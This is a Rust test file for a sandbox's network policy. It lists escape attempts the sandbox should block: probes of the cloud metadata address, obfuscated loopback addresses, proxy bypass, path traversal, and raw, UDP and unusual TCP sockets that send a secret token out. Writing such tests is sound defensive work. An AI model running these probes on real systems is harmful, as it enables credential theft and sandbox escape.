//! Ways out over a network, and to what listens on the host's own addresses. The cage may use its proxy, which allows
//! `*.example.com`; whoever owns such a name lets it lead to where it likes.

use super::attack::{Attack, Way, module, python, shell};
use terraplane::sandbox::Level;
use terraplane::sandbox::policy::Network;

const FETCH: &str =
    "import urllib.request\nprint(urllib.request.urlopen('http://' + E['API_NAME'] + '/', timeout=2).read())";

pub(super) const ATTACKS: &[Attack] = &[
    module(
        19,
        "the cloud's metadata service, and addresses like it, however they are written",
        &[
            python(FETCH).says("api"),
            python("import urllib.request\nprint(urllib.request.urlopen('http://' + E['API'], timeout=2).read())").says("api"),
            shell("curl -s -m 2 http://2130706433:${API#*:}/").says("api"),
            shell("curl -s -m 2 http://0x7f000001:${API#*:}/").says("api"),
            shell("curl -s -m 2 http://127.1:${API#*:}/").says("api"),
            shell("curl -s -m 2 \"http://[::ffff:127.0.0.1]:${API#*:}/\"").says("api"),
            shell("curl -s -m 2 -p http://$API_NAME/").says("api"),
            shell("curl -s -m 2 -p http://$API/").says("api"),
            shell("curl -s -m 2 --noproxy '*' http://$API/").says("api"),
            shell("curl -sf -m 2 http://169.254.169.254/ && echo $WORD").not_bare("not every host is in a cloud"),
            shell("curl -sf -m 2 -p http://169.254.169.254/ && echo $WORD").not_bare("not every host is in a cloud"),
        ],
    ),
    module(
        20,
        "the server's own pages and its interface on loopback",
        &[
            python("s = socket.create_connection(at(E['API'])); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(999))")
                .says("api"),
            // Of the server, managed state is there for cages, and nothing else.
            shell("curl -s -m 2 http://$STATE/metrics").says("api"),
            shell("curl -s -m 2 --path-as-is http://$STATE/state/../metrics").says("api"),
            shell("curl -s -m 2 --path-as-is http://$STATE/state/%2e%2e/metrics").says("api"),
            shell("curl -s -m 2 --path-as-is http://$STATE//state/x").says("api"),
            shell("curl -s -m 2 -p http://$STATE/state/x").says("api"),
        ],
    ),
    module(
        21,
        "a connection that asks no proxy",
        &[
            python("s = socket.create_connection(at(E['API'])); s.sendall(WORD)").tells(),
            python("s = socket.socket(socket.AF_INET6); host, port = at(E['API']); s.connect(('::ffff:' + host, port)); s.sendall(WORD)")
                .tells(),
            python("s = socket.socket(); s.setblocking(False)\nerror = s.connect_ex(at(E['API'])); time.sleep(0.05); s.sendall(WORD)")
                .tells(),
            python("import threading\ndef go(): socket.create_connection(at(E['API'])).sendall(WORD)\nt = threading.Thread(target=go); t.start(); t.join()")
                .tells(),
            Way { network: Network::None, ..shell("curl -s -m 2 http://$API/$WORD").tells() },
        ],
    ),
    module(
        22,
        "datagrams, such as questions to a name server that carry a secret",
        &[
            python("socket.socket(type=socket.SOCK_DGRAM).sendto(WORD, ('127.0.0.1', int(E['UDP'])))").tells(),
            python("s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('127.0.0.1', int(E['UDP']))); s.send(WORD)").tells(),
            python("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(WORD, ('::ffff:127.0.0.1', int(E['UDP'])))").tells(),
        ],
    ),
    module(
        23,
        "TCP that is not asked for as such",
        &[
            // Fast open: connects as it sends.
            python("socket.socket().sendto(WORD, 0x20000000, at(E['API']))").tells(),
            python("socket.socket().sendmsg([WORD], [], 0x20000000, at(E['API']))").tells(),
            // Multipath TCP, and SCTP.
            python("s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(at(E['API'])); s.sendall(WORD)").tells(),
            python("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); print(E['WORD'])").not_bare("not in every kernel"),
            python("socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132); print(E['WORD'])").not_bare("not in every kernel"),
            // DCCP.
            python("socket.socket(socket.AF_INET, 6, 33); print(E['WORD'])").not_bare("not in every kernel"),
            // Connections that come in: `listen()` chooses an address and a port by itself. What `weak` is labelled for.
            python("s = socket.socket(); s.listen(); s.settimeout(2)\nfor i in range(50): s.accept()[0].sendall(WORD)")
                .opens()
                .open_at(&[Level::Weak]),
            python("s = socket.socket(socket.AF_INET6); s.listen(); s.settimeout(2)\nfor i in range(50): s.accept()[0].sendall(WORD)")
                .opens()
                .open_at(&[Level::Weak]),
        ],
    ),
    module(
        24,
        "sockets that are not of the internet",
        &[
            python("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print(E['WORD'])").root_only(),
            python("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print(E['WORD'])").root_only(),
            python("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15); print(E['WORD'])"),
            python("socket.socket(socket.AF_VSOCK); print(E['WORD'])").not_bare("not in every kernel"),
            python("socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET); print(E['WORD'])").not_bare("not in every kernel"),
            python("socket.socket(44, socket.SOCK_RAW, 0); print(E['WORD'])").not_bare("not in every kernel"),
        ],
    ),
    module(
        25,
        "the proxy's port at another address",
        &[
            // What `weak` is labelled for: Landlock knows ports, and no addresses.
            python("s = socket.create_connection(at(E['BESIDE'])); s.sendall(WORD)").tells().open_at(&[Level::Weak]),
        ],
    ),
];

#[tokio::test]
async fn nothing_is_reached_past_the_proxy_and_nothing_private_through_it() {
    super::trial::all(ATTACKS).await;
}
